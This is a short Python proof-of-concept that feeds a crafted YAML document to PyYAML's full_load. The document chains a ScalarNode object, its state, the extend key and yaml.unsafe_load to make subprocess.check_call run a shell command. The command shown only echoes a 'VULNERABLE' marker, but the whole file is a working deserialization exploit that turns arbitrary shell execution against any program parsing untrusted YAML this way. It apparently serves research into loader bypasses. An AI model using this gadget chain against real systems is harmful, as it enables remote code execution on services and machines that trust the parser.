import yaml

# The same primitive through a class from another loaded module.
doc = """
!!python/object/new:yaml.nodes.ScalarNode
listitems: !!str '!!python/object/apply:subprocess.check_call [["sh", "-c", "echo VULNERABLE: state set extend"]]'
state:
  tag: x
  value: x
  extend: !!python/name:yaml.unsafe_load
"""
import subprocess  # noqa: E402,F401

yaml.full_load(doc)
